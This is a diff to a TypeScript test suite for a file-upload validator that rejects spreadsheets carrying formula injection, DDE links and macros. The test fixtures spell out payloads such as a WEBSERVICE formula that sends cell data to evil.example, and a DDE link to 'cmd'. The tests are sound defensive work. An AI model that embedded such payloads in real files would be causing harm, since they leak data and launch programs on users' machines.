@@ -188,12 +188,14 @@ const zip = Buffer.from(zipSync({ 'a.csv': Buffer.from(csv) }));
 /** 30,000 rows, of which the last alone has a formula. */
 const longTable = `a,b\n${'1,x\n'.repeat(29_999)}1,"=WEBSERVICE(""https://evil.example/"")"\n`;
 
-function workbook(rows: number): Buffer {
+/** @param stored formula of the first cell, which has a stored value */
+function workbook(rows: number, stored?: string, more: Record<string, string> = {}): Buffer {
   const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`;
   const formula = '=WEBSERVICE(&quot;https://evil.example/&quot;)';
   const lines = Array.from({ length: rows }, (_, at) => {
     const row = at + 2;
-    return `<row r="${row}"><c r="A${row}"><v>1</v></c>${text(`B${row}`, at === rows - 1 ? formula : 'x')}</row>`;
+    const own = at === 0 && stored !== undefined ? `<f>${stored}</f>` : '';
+    return `<row r="${row}"><c r="A${row}">${own}<v>1</v></c>${text(`B${row}`, stored === undefined && at === rows - 1 ? formula : 'x')}</row>`;
   });
   const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
   const links = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
@@ -204,6 +206,7 @@ function workbook(rows: number): Buffer {
     'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${links}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
     'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${packages}"><Relationship Id="r1" Type="${links}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
     'xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}"><sheetData><row r="1">${text('A1', 'a')}${text('B1', 'b')}</row>${lines.join('')}</sheetData></worksheet>`,
+    ...more,
   };
   return Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, xml]) => [name, Buffer.from(xml)]))));
 }
@@ -264,12 +267,34 @@ const refused: [string, () => Buffer | string, number, RegExp][] = [
   ],
   ['a formula as text in row 30,000 of a workbook', () => workbook(30_000), 422, /\(=WEBSERVICE\(…\)/u],
   [
+    'a stored formula that calls an address',
+    () => workbook(3, '1+_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;B2)'),
+    422,
+    /\(=WEBSERVICE\(…\)/u,
+  ],
+  [
+    'a link to another program',
+    () =>
+      workbook(3, '[1]!a', {
+        'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
+      }),
+    422,
+    /starts a program/u,
+  ],
+  ['macros', () => workbook(3, '1+1', { 'xl/vbaProject.bin': 'x' }), 422, /also a program of macros/u],
+  [
     'an escaped formula',
     () => String.raw`[{"a":"x"},{"a":"\u003dWEBSERVICE(\u0022https://evil.example/\u0022)"}]`,
     422,
     /spreadsheet formula/u,
   ],
 ];
+
+it('reads other formulas of a workbook as their stored values', async () => {
+  const reply = await upload(server, workbook(3, 'SUM(C1:C9)*CALLS+IMAGES(1)'), seller);
+  expect(reply.statusCode).toBe(201);
+  expect(reply.json<DataFile>().sample.rows?.[0]).toMatchObject([1, 'x']);
+});
 
 describe('a file that is refused with a reason', () => {
   it.each(refused)('is one with %s', async (_name, bytes, status, reason) => {
